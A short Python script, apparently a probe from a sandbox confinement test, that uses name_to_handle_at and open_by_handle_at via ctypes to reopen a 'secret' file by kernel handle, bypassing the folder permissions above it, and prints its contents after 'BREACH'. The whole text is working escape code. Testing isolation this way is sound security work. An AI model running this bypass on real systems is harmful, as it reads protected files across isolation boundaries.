# files: Asks the kernel for a file by its number, past every folder above it.
# bare: root
import ctypes
import json
import os
import sys

outside = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
handle = (ctypes.c_char * 136)()
ctypes.c_uint.from_buffer(handle).value = 128
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, outside["secret"].encode(), handle, ctypes.byref(mount), 0) != 0:
    raise OSError(ctypes.get_errno(), "name_to_handle_at")
anchor = os.open(os.path.dirname(outside["secret"]), os.O_RDONLY)
file = libc.open_by_handle_at(anchor, handle, os.O_RDONLY)
print("BREACH", os.read(file, 1000).decode())
